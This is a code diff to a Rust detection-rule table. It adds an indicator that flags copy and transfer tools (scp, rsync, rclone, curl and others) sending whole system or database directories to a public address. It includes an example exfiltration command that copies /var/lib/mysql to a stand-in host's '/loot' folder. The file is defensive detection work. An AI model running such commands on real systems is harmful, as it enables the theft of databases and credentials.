@@ -275,6 +275,41 @@ pub(super) const ROWS: &[Indicator] = &[
         example: &[("proc.cmdline", "tar cf /tmp/.d.tar /home")],
         look_alike: &[("proc.cmdline", "tar cf /backup/home.tar /home")],
     },
+    Indicator {
+        id: "whole-data-sent-away",
+        finds: Finds::Command(&["scp", "rsync", "tar", "rclone", "curl", "sftp"], |seen| {
+            let whole = |arg: &str| {
+                matches!(
+                    arg.trim_end_matches('/'),
+                    "/etc"
+                        | "/home"
+                        | "/root"
+                        | "/var/lib/mysql"
+                        | "/var/lib/postgresql"
+                        | "/var/lib/mongodb"
+                        | "/data/db"
+                        | "/var/www"
+                        | "/var/www/html"
+                        | "/opt"
+                        | "/srv"
+                        | "/var/lib"
+                )
+            };
+            let to = ssh_host(seen).is_some_and(words::is_public_address)
+                || seen.urls().any(|url| words::is_public_address(url.host));
+            let piped = seen.feeds(|c| {
+                c.arg_texts().any(words::is_public_address)
+                    || super::seen::urls(c).any(|url| words::is_public_address(url.host))
+            });
+            seen.any_arg(whole) && (to || piped)
+        }),
+        weight: 76,
+        techniques: &["T1048", "T1041"],
+        reason: "A whole data directory is sent to a bare public address.",
+        refuted_by: "A migration or backup of yours to this address.",
+        example: &[("proc.cmdline", "scp -r /var/lib/mysql root@198.51.100.7:/loot")],
+        look_alike: &[("proc.cmdline", "scp -r /var/lib/mysql root@10.0.0.7:/backup")],
+    },
 ];
 
 /// Whether ssh is asked for a tunnel from the far end to here.
